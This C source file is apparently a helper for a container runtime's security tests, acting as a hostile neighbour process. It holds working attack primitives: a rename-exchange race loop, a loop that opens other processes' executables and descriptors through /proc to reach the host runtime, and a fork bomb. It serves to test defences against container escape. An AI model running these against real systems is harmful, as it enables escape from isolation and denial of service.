/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What a hostile neighbour does, for the tests of tests/security.
 *
 *   attacker swap A B      exchanges the names A and B as fast as it can, until killed
 *   attacker look OUT      in a PID namespace: tries to open the executable and descriptors of every process but the
 *                          first and itself, which takes the right to trace it, until killed; appends what it got to OUT
 *   attacker fork          forks for ever, and so do its children
 *   attacker hold PATH     opens PATH and waits
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int swap(char **argv)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) <
			    0 &&
		    errno != ENOENT)
			return 1;
}

static void try_open(FILE *out, int pid, const char *what)
{
	char path[512], link[512], target[512] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	if (readlink(link, target, sizeof(target) - 1) < 0)
		target[0] = '\0';
	fprintf(out, "opened %s %s\n", what, target);
	fflush(out);
	close(fd);
}

/* What its executable is tells whose it is: a program of the container's, or the runtime's process before it. */
static void attack(FILE *out, int pid)
{
	struct dirent *entry;
	char path[300];
	DIR *dir;

	try_open(out, pid, "exe");
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		snprintf(path, sizeof(path), "fd/%s", entry->d_name);
		if (atoi(entry->d_name) > 2)
			try_open(out, pid, path);
	}
	if (dir)
		closedir(dir);
}

static int look(char **argv)
{
	FILE *out = fopen(argv[0], "ae");

	if (!out)
		return 1;
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			int pid = atoi(entry->d_name);

			if (pid > 1 && pid != getpid())
				attack(out, pid);
		}
		if (dir)
			closedir(dir);
	}
}

static int fork_bomb(char **argv)
{
	(void)argv;
	for (;;)
		if (fork() < 0 && errno == ENOSYS)
			return 1;
}

static int hold(char **argv)
{
	if (open(argv[0], O_RDONLY) < 0)
		return 1;
	for (;;)
		pause();
}

static const struct {
	const char *name;
	int arguments;
	int (*run)(char **argv);
} modes[] = {
	{"swap", 2, swap},
	{"look", 1, look},
	{"fork", 0, fork_bomb},
	{"hold", 1, hold},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(modes) / sizeof(modes[0]); i++)
		if (!strcmp(argv[1], modes[i].name) && argc == modes[i].arguments + 2)
			return modes[i].run(argv + 2);
	fprintf(stderr, "attacker: no such mode\n");
	return 2;
}
